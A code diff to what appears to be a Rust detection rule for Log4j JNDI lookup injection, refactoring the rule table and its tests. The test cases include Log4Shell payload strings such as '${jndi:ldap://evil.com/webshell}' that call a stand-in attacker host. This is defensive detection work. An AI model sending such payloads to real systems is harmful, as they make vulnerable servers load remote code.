@@ -5,21 +5,22 @@
 //! escapes the application's parser undoes (`$\u007b`, `$&lbrace;`): those are undone and the
 //! lookups resolved here as Log4j would before the word is looked for.
 
-use super::more::{unescape, Check, Scope};
+use super::more::unescape;
 use super::{JNDI_LOOKUP, JNDI_RUNTIME};
+use crate::engine::RuleDef;
 
-pub(crate) const CHECKS: &[Check] = &[
-    Check {
+pub(crate) const TABLE: &[RuleDef] = &[
+    RuleDef {
         rule: JNDI_LOOKUP,
-        scope: Scope::Any,
         anchors: &["$"],
-        check: |_, lower| resolves_to_jndi(&unescape(lower)),
+        on_plain: false,
+        check: |v| (|_, lower| resolves_to_jndi(&unescape(lower)))(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: JNDI_RUNTIME,
-        scope: Scope::Any,
         anchors: &["${"],
-        check: runtime_lookup,
+        on_plain: false,
+        check: |v| runtime_lookup(v.bytes(), v.lower()),
     },
 ];
 
@@ -116,7 +117,7 @@ mod tests {
     #[test]
     fn cases() {
         attacks(
-            CHECKS,
+            TABLE,
             &[
                 ("${jndi:ldap://evil.com/webshell}", "jndi-001"),
                 ("${JNDI:rmi://1.2.3.4/x}", "jndi-001"),
@@ -141,7 +142,7 @@ mod tests {
             ],
         );
         benign(
-            CHECKS,
+            TABLE,
             1,
             &[
                 "The total is ${PRICE}",
@@ -151,7 +152,7 @@ mod tests {
                 "price: ${amount:-0}",
             ],
         );
-        benign(CHECKS, 2, &["The total is ${PRICE}", "${HOME}/bin"]);
+        benign(TABLE, 2, &["The total is ${PRICE}", "${HOME}/bin"]);
         // Nesting past the bound is read as written, never with more work than one pass.
         let deep = "${".repeat(10_000) + "jndi:x" + &"}".repeat(10_000);
         assert!(resolves_to_jndi(&deep));
